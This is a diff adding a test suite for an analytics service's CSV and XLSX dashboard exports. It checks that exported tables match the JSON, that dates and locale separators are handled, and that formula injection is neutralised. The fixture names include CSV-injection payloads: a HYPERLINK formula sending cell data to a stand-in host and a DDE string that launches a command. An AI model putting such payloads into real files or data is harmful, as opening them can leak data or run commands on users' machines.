@@ -1,0 +1,201 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import { openApp, type TestApp } from '../support/app/test-app.ts'
+import { parseCsv, withoutGuards } from '../support/http/csv.ts'
+import { askForFile } from '../support/http/file-request.ts'
+import type { Claims } from '../support/http/tokens.ts'
+import { readWorkbook } from '../support/http/xlsx.ts'
+
+const TABLES = {
+  overview: ['timeRange', 'summary', 'byChannel', 'trend'],
+  messages: ['summary', 'timeSeries', 'byChannel'],
+  campaigns: ['summary', 'topCampaigns', 'timeSeries'],
+  workflows: ['summary', 'topWorkflows', 'timeSeries'],
+  sequences: ['summary', 'stepFunnel', 'topSequences', 'timeSeries'],
+  templates: ['topTemplates', 'worstPerforming'],
+  traffic: ['peakHours', 'byDayOfWeek', 'timeSeries'],
+}
+type Dashboard = keyof typeof TABLES
+const DASHBOARDS = Object.keys(TABLES) as Dashboard[]
+const MAIN_TABLE: Record<Dashboard, string> = {
+  overview: 'trend',
+  messages: 'timeSeries',
+  campaigns: 'topCampaigns',
+  workflows: 'topWorkflows',
+  sequences: 'topSequences',
+  templates: 'topTemplates',
+  traffic: 'timeSeries',
+}
+
+/** What a producer may call its things. */
+const NAMES = [
+  '=HYPERLINK("http://x.test/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  ' \t=1+1',
+  '＝1+1',
+  'Sale;=1+1',
+  'Black, "Friday"\r\nSale',
+  '\u202Eelas\u202C',
+  'مبيعات الصيف',
+  '😀 crème brûlée',
+  '#N/A',
+  '_x0041_',
+]
+
+type Value = string | number
+
+/** A table as the JSON answer has it. */
+function tableOf(data: unknown): Value[][] {
+  const part = data as Record<string, Value>[] | Record<string, Value | Record<string, Value>>
+  if (Array.isArray(part)) return [Object.keys(part[0] ?? {}), ...part.map((item) => Object.values(item))]
+  const entries = Object.entries(part)
+  if (typeof entries[0]?.[1] !== 'object') return [Object.keys(part), Object.values(part) as Value[]]
+  return [
+    ['channel', ...Object.keys(entries[0][1])],
+    ...entries.map(([key, counts]) => [key, ...(Object.values(counts) as Value[])]),
+  ]
+}
+
+/** Fields as the values they were: a number wherever the JSON has one, and then in the same digits. */
+function valuesOf(records: string[][], like: Value[][]): Value[][] {
+  return records.map((record, y) =>
+    record.map((field, x) => {
+      const value = like[y]?.[x]
+      return typeof value === 'number' && field === JSON.stringify(value) ? value : withoutGuards(field)
+    }),
+  )
+}
+
+/** What a spreadsheet makes of a day or an instant in UTC: days since 30 December 1899. */
+function dated(value: Value): Value {
+  const isDate = typeof value === 'string' && /^\d{4}-\d\d-\d\d(T[\d:.]+Z)?$/.test(value)
+  return isDate ? (Date.parse(value) - Date.UTC(1899, 11, 30)) / 86_400_000 : value
+}
+
+const HEADINGS: Record<string, string> = {
+  avgOpenRate: 'Average open rate',
+  campaignId: 'Campaign ID',
+  goalReached: 'Goal reached',
+  hour: 'Hour',
+  messageCount: 'Message count',
+  openRate: 'Open rate',
+  sent: 'Sent',
+  stepNumber: 'Step number',
+  totalMessagesSent: 'Total messages sent',
+  usageCount: 'Usage count',
+}
+
+describe('exports', () => {
+  let app: TestApp
+  beforeAll(async () => {
+    app = await openApp()
+    const timestamp = new Date().toISOString()
+    const event = (subject: string, data: Record<string, unknown>) =>
+      [subject, { tenantId: 'a', timestamp, data }] as const
+    const events = NAMES.flatMap((name, index) => {
+      const [channel, contactId] = [index % 2 ? 'sms' : 'email', `contact-${index % 5}`]
+      const message = { messageId: `m-${index}`, channel, contactId, campaignId: `=${index}`, campaignName: name }
+      const template = { templateId: `tpl-${index}`, templateName: name }
+      const step = { enrollmentId: `e-${index}`, sequenceId: `seq-${index}`, name, stepNumber: 1 + (index % 3) }
+      return [
+        event('pipeline.message.sent', { ...message, ...template }),
+        event('pipeline.message.delivered', { ...message, ...template }),
+        ...(index % 3 ? [event('pipeline.message.opened', { ...message, ...template })] : []),
+        event('workflow.run.started', { runId: `r-${index}`, workflowId: `wf-${index}`, name }),
+        event('sequence.step.executed', step),
+      ]
+    })
+    await app.store(events)
+  }, 60_000)
+  afterAll(() => app?.close(), 30_000)
+
+  const ask = (path: string, claims: Claims = {}) => askForFile(app, path, {}, claims)
+  const json = async (path: string) => JSON.parse((await ask(path)).text) as { data: Record<string, unknown> }
+  /** More than the names there are. */
+  const LIMIT = 'limit=100'
+  const questionOf = (dashboard: Dashboard) => (MAIN_TABLE[dashboard].startsWith('top') ? LIMIT : '')
+
+  test.each(DASHBOARDS)('of %s hold as CSV what the JSON holds, to the last digit: every table', async (dashboard) => {
+    const question = questionOf(dashboard)
+    const { data } = await json(`/${dashboard}?${question}`)
+    expect(Object.keys(data)).toEqual(TABLES[dashboard])
+    for (const table of TABLES[dashboard]) {
+      const expected = tableOf(data[table])
+      const { status, text } = await ask(`/${dashboard}?${question}&format=csv&table=${table}`)
+      expect(status).toBe(200)
+      expect([table, valuesOf(parseCsv(text), expected)]).toEqual([table, expected])
+    }
+    const main = await ask(`/${dashboard}?${question}&format=csv`)
+    expect(main.text).toBe((await ask(`/${dashboard}?${question}&format=csv&table=${MAIN_TABLE[dashboard]}`)).text)
+  })
+
+  test.each(DASHBOARDS)('of %s hold as a workbook what the JSON holds, a sheet a table', async (dashboard) => {
+    const question = questionOf(dashboard)
+    const { data } = await json(`/${dashboard}?${question}`)
+    const sheets = readWorkbook((await ask(`/${dashboard}?${question}&format=xlsx`)).bytes)
+    expect(sheets.map(({ name }) => name)).toEqual([...TABLES[dashboard], 'about'])
+    for (const { name, rows, boldHeaders } of sheets.slice(0, -1)) {
+      const [headings, ...read] = rows.map((row) =>
+        row.map((cell) => (typeof cell === 'string' ? withoutGuards(cell) : cell)),
+      )
+      const [keys, ...expected] = tableOf(data[name])
+      expect([name, read]).toEqual([name, expected.map((row) => row.map(dated))])
+      for (const [index, key] of keys!.entries())
+        expect(headings![index]).toEqual(
+          HEADINGS[String(key)] ?? expect.stringMatching(/^[A-Z][a-z]+( [a-z]+)*( ID)?$/),
+        )
+      expect(boldHeaders).toBe(rows[0]!.length)
+    }
+    const about = sheets.at(-1)!.rows
+    expect(about[0]?.slice(0, 5)).toEqual(['Dashboard', 'Start', 'End', 'Time zone', 'As of'])
+    expect([about[1]?.[0], about[1]?.[3]]).toEqual([dashboard, 'UTC'])
+  })
+
+  test('hold local days as dates in a workbook, and percentages with their sign', async () => {
+    const asked = '/campaigns?timezone=Europe/Berlin&startDate=2026-10-24&endDate=2026-10-26&format=xlsx'
+    const sheets = readWorkbook((await ask(asked)).bytes)
+    const { rows, formats } = sheets.find(({ name }) => name === 'timeSeries')!
+    // 24 October 2026 is day 46,319; the clocks go back in the night to the 26th.
+    expect(rows.slice(1).map(([day]) => day)).toEqual([46_319, 46_320, 46_321])
+    expect(formats[0]).toBe('yyyy-mm-dd')
+    const about = sheets.at(-1)!
+    expect(about.rows[1]!.slice(1, 4)).toEqual([46_319, 46_321 + 86_399_999 / 86_400_000, 'Europe/Berlin'])
+    const top = readWorkbook((await ask('/campaigns?limit=1&format=xlsx')).bytes).find(
+      ({ name }) => name === 'topCampaigns',
+    )!
+    expect(top.formats.slice(-2)).toEqual(['0.00"%"', '0.00"%"'])
+  })
+
+  test('in CSV are separated as spreadsheets of other languages expect it', async () => {
+    const asked = '/campaigns?limit=100&format=csv&table=topCampaigns'
+    const german = await ask(`${asked}&delimiter=semicolon&decimal=comma`)
+    const plain = await ask(asked)
+    const lineOf = (text: string) => text.split('\r\n')[0]!
+    expect(lineOf(german.text)).toBe(lineOf(plain.text).replaceAll(',', ';'))
+    expect(german.headers.get('etag')).not.toBe(plain.headers.get('etag'))
+    for (const wrong of ['delimiter=;', 'decimal=,', 'delimiter=pipe'])
+      expect((await ask(`${asked}&${wrong}`)).status).toBe(400)
+  })
+
+  test('have no cell that a spreadsheet takes for a formula, and every name in whole', async () => {
+    for (const table of ['campaigns', 'workflows', 'sequences', 'templates'] as const) {
+      const csv = parseCsv((await ask(`/${table}?${LIMIT}&format=csv`)).text)
+      const workbook = readWorkbook((await ask(`/${table}?${LIMIT}&format=xlsx`)).bytes)
+      const sheet = workbook.find(({ name }) => name === MAIN_TABLE[table])!.rows
+      for (const records of [csv, sheet]) {
+        const names = records.slice(1).map((record) => String(record[1]))
+        expect(names.filter((name) => /(^|;)[\s"]*[=+\-@＝]|^[\t\r\n]/.test(name))).toEqual([])
+        expect(names.map(withoutGuards).toSorted()).toEqual(NAMES.toSorted())
+      }
+    }
+  })
+
+  test('of a tenant without events have their columns nevertheless', async () => {
+    const { text } = await ask('/campaigns?format=csv', { tenantId: 'nobody' })
+    expect(parseCsv(text)).toEqual([
+      ['campaignId', 'name', 'sent', 'delivered', 'opened', 'clicked', 'recipients', 'openRate', 'clickRate'],
+    ])
+  })
+})
